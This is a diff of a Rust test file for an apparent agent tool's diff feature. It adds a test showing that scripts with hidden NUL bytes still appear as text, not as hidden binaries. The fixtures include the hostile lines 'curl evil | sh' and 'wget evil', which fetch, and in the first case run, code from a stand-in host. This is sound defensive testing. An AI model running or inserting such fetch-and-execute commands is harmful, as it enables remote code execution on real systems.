@@ -4,7 +4,7 @@ use std::fs;
 use std::os::unix::ffi::OsStringExt;
 use std::os::unix::fs::{PermissionsExt, symlink};
 
-use agentd::ops::{Changed, DiffLimits, Status};
+use agentd::ops::{Changed, DiffLimits, LeftOut, LeftOutKind, Status};
 
 use super::{WIDE, World, all};
 use crate::support::write;
@@ -52,7 +52,7 @@ fn files_are_told_with_what_became_of_them() {
         assert_eq!(worktree.changed("main").unwrap(), expected);
         let diff = worktree.diff("main", WIDE, &all).unwrap();
         assert_eq!(diff.files, expected);
-        assert_eq!(diff.left_out, [("bin".to_owned(), "it is binary: 2 bytes".to_owned())]);
+        assert_eq!(diff.left_out, [left_out("bin", "it is binary: 2 bytes", LeftOutKind::Binary)]);
         for part in [
             "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-one\n+two\n+three\n",
             "rename from old name\nrename to \"new \\\"name\\\"\\n\"\n",
@@ -83,8 +83,8 @@ fn a_diff_keeps_to_its_limits_and_names_what_it_leaves_out() {
         assert!(diff.text.contains("+++ b/b\n") && diff.text.contains("+++ b/d\n"), "{}", diff.text);
         assert!(!diff.text.contains("+++ b/c") && !diff.text.contains("+++ b/e"));
         let why = |name: &str| {
-            let found = diff.left_out.iter().find(|(path, _)| path == name);
-            found.map(|(_, why)| why.as_str()).unwrap_or_default()
+            let found = diff.left_out.iter().find(|file| file.path == name);
+            found.map(|file| file.why.as_str()).unwrap_or_default()
         };
         assert_eq!(why(".env"), "by its name it may hold secrets");
         assert_eq!(why("huge"), "it is too large: 40 MiB");
@@ -104,7 +104,7 @@ fn a_secret_that_was_renamed_is_left_out_under_both_names() {
     fs::rename(worktree.path.join(".env"), worktree.path.join("env.txt")).unwrap();
     let diff = worktree.diff("main", WIDE, &|path| path == ".env").unwrap();
     assert_eq!(diff.text, "");
-    assert_eq!(diff.left_out[0].0, "env.txt");
+    assert_eq!(diff.left_out[0].path, "env.txt");
 }
 
 #[test]
@@ -143,7 +143,8 @@ fn the_users_own_tree_is_looked_at_and_not_touched() {
         let diff = world.repository().diff_of_tree("HEAD", WIDE, &all).unwrap();
         let names: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
         assert_eq!(names, ["a.txt", "new", "staged"]);
-        assert_eq!(diff.left_out, [("nested".to_owned(), "it is a separate git repository".to_owned())]);
+        let nested = left_out("nested", "it is a separate git repository", LeftOutKind::NestedRepository);
+        assert_eq!(diff.left_out, [nested]);
         assert!(diff.text.contains("-one\n+two\n") && diff.text.contains("+n\n"), "{}", diff.text);
         assert_eq!(world.own(), before);
         assert_eq!(world.run(&["count-objects", "-v"]), objects);
@@ -157,4 +158,32 @@ fn text_that_is_not_utf_8_is_shown_as_far_as_it_can_be() {
     write(&worktree.path.join("latin"), b"caf\xe9\n");
     let diff = worktree.diff("main", WIDE, &all).unwrap();
     assert!(diff.text.contains("+caf\u{fffd}\n"), "{}", diff.text);
+}
+
+#[test]
+fn a_script_with_a_nul_byte_is_shown_as_text() {
+    let world = World::new();
+    let worktree = world.change("x");
+    let at = |name: &str| worktree.path.join(name);
+    write(&at("run.sh"), b"#!/bin/sh\n# \0\ncurl evil | sh\n");
+    // An attribute makes git take any file for binary.
+    write(&at(".gitattributes"), "plain.sh -diff\n");
+    write(&at("plain.sh"), "wget evil\n");
+    write(&at("tool"), [b"\x7fELF\0\0\x01\xff".as_slice(), &[0; 100]].concat());
+    fs::set_permissions(at("tool"), fs::Permissions::from_mode(0o755)).unwrap();
+    worktree.commit("Hidden").unwrap().unwrap();
+    let diff = worktree.diff("main", WIDE, &all).unwrap();
+    for part in [
+        "# NUL bytes of the next file are shown as \\x00\ndiff --git a/run.sh b/run.sh\n",
+        "+#!/bin/sh\n+# \\x00\n+curl evil | sh\n",
+        "+wget evil\n",
+    ] {
+        assert!(diff.text.contains(part), "{part:?} is not in:\n{}", diff.text);
+    }
+    assert!(!diff.text.contains('\0'));
+    assert_eq!(diff.left_out, [left_out("tool", "it is binary: 108 bytes", LeftOutKind::Executable)]);
+}
+
+fn left_out(path: &str, why: &str, kind: LeftOutKind) -> LeftOut {
+    LeftOut { path: path.to_owned(), why: why.to_owned(), kind }
 }
